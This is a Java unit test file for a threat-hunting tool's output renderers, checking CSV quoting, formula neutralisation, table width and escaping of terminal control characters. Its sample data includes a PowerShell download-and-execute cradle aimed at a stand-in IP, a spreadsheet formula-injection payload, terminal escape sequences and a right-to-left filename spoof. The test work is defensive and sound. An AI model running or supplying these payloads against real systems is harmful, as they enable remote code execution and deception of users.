package org.huntindex.render;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

class RenderersTest {
  private static final List<Column> COLUMNS =
      List.of(Column.of("Host_count"), Column.of("IP"), Column.of("CommandLine").narrowedFirst(), Column.of("Hosts"));

  private static Map<String, Object> row(long count, String ip, String commandLine, List<String> hosts) {
    Map<String, Object> r = new LinkedHashMap<>();
    r.put("Host_count", count);
    r.put("IP", ip);
    r.put("CommandLine", commandLine);
    r.put("Hosts", hosts);
    return r;
  }

  private static String render(Format format, int width, List<Map<String, Object>> rows) throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    format.renderer(width).render(rows, COLUMNS, out);
    return out.toString(StandardCharsets.UTF_8);
  }

  @Test
  void noResultsPrintNothingButJsonPrintsAnEmptyArray() throws IOException {
    assertEquals("", render(Format.TABLE, 80, List.of()));
    assertEquals("", render(Format.CSV, 80, List.of()));
    assertEquals("", render(Format.NDJSON, 80, List.of()));
    assertEquals("[]", render(Format.JSON, 80, List.of()).strip());
  }

  @Test
  void csvCellsThatSpreadsheetsReadAsFormulasAreNeutralised() throws IOException {
    String csv = render(Format.CSV, 80, List.of(row(1, "8.8.8.80", "=cmd|' /C calc'!A0", List.of("@SUM(1)", "ok")),
        row(2, "1.1.1.11", "-2+3", List.of("+1", "\tx", "\rx"))));
    List<CSVRecord> records = CSVFormat.RFC4180.parse(new StringReader(csv)).getRecords();
    assertEquals("'=cmd|' /C calc'!A0", records.get(1).get(2));
    assertEquals("'@SUM(1), ok", records.get(1).get(3));
    assertEquals("'-2+3", records.get(2).get(2));
    assertEquals("'+1, \tx, \rx", records.get(2).get(3));
    assertEquals("1", records.get(1).get(0), "numbers are left alone");
  }

  @Test
  void csvQuotesCommasQuotesAndLineBreaksPerRfc4180() throws IOException {
    String csv = render(Format.CSV, 80, List.of(row(1, "8.8.8.80", "cmd /c \"ping 8.8.8.80\",x\ny", List.of("a"))));
    assertTrue(csv.contains("\"cmd /c \"\"ping 8.8.8.80\"\",x\ny\""), csv);
    assertTrue(csv.startsWith("Host_count,IP,CommandLine,Hosts\r\n"), "CRLF record separators");
    CSVRecord r = CSVFormat.RFC4180.parse(new StringReader(csv)).getRecords().get(1);
    assertEquals("cmd /c \"ping 8.8.8.80\",x\ny", r.get(2));
  }

  @Test
  void tableFitsTheWidthByCuttingTheLongCommandLineWithAnEllipsis() throws IOException {
    String longLine = "powershell -nop -w hidden -c iex (new-object net.webclient).downloadstring('http://8.8.8.80/a')";
    String table = render(Format.TABLE, 60, List.of(row(12, "8.8.8.80", longLine, List.of("WS1", "WS2"))));
    for (String line : table.split("\n")) {
      assertTrue(line.codePointCount(0, line.length()) <= 60, "too wide: " + line);
    }
    assertTrue(table.contains("…"), table);
    assertTrue(table.contains("8.8.8.80  "), "the IP is kept whole: " + table);
    assertTrue(table.contains("WS1, WS2"), table);
  }

  @Test
  void tableShowsTabsAndLineBreaksOnOneLine() throws IOException {
    String table = render(Format.TABLE, 200, List.of(row(1, "8.8.8.80", "ping 8.8.8.80\t-n\r\n1", List.of("h"))));
    assertEquals(2, table.split("\n").length, table);
    assertTrue(table.contains("ping 8.8.8.80⇥-n␍↵1"), table);
  }

  @Test
  void tableShowsEscapesAndBidiControlsSoEvidenceCannotDriveTheTerminal() throws IOException {
    String table = render(Format.TABLE, 200,
        List.of(row(1, "8.8.8.80", "ping 8.8.8.80 \u001b[2J\u001b]0;x\u0007", List.of("invoice\u202efdp.exe"))));
    assertTrue(table.contains("ping 8.8.8.80 ␛[2J␛]0;x␇"), table);
    assertTrue(table.contains("invoice<U+202E>fdp.exe"), table);
    assertTrue(table.chars().noneMatch(c -> c < 0x20 && c != '\n'), table);
  }

  @Test
  void ndjsonIsOneCompactObjectPerResultAndNothingElse() throws IOException {
    String nd = render(Format.NDJSON, 80, List.of(row(2, "8.8.8.80", "a \"b\"", List.of("x", "y")),
        row(1, "9.9.9.99", "c", List.of())));
    String[] lines = nd.split("\n", -1);
    assertEquals(3, lines.length);
    assertEquals("", lines[2]);
    assertEquals("{\"Host_count\":2,\"IP\":\"8.8.8.80\",\"CommandLine\":\"a \\\"b\\\"\","
        + "\"Hosts\":[\"x\",\"y\"]}", lines[0]);
    assertEquals("{\"Host_count\":1,\"IP\":\"9.9.9.99\",\"CommandLine\":\"c\",\"Hosts\":[]}", lines[1]);
  }

  @Test
  void jsonEscapesWhatATerminalWouldActOnAndKeepsOtherTextAsIs() throws IOException {
    String nd = render(Format.NDJSON, 80,
        List.of(row(1, "8.8.8.80", "a\u001b[2J\u009b2J\u202e\u2028é😀", List.of("h"))));
    // Jackson writes a character beyond the BMP as an escaped surrogate pair, as it did before
    assertTrue(nd.contains("\"a\\u001B[2J\\u009b2J\\u202e\\u2028é\\uD83D\\uDE00\""), nd);
    assertTrue(nd.chars().noneMatch(c -> (c < 0x20 && c != '\n') || (c >= 0x80 && c < 0xA0) || c == 0x202E), nd);
  }

  @Test
  void nestedResultsKeepTheirShapeInJson() throws IOException {
    Map<String, Object> seq = new LinkedHashMap<>();
    seq.put("join_keys", List.of("{A}"));
    seq.put("events", List.of(Map.of("event.id", "s1"), Map.of("event.id", "n1")));
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    Format.NDJSON.renderer(80).render(List.of(seq), List.of(), out);
    assertEquals("{\"join_keys\":[\"{A}\"],\"events\":[{\"event.id\":\"s1\"},{\"event.id\":\"n1\"}]}\n",
        out.toString(StandardCharsets.UTF_8));
  }
}
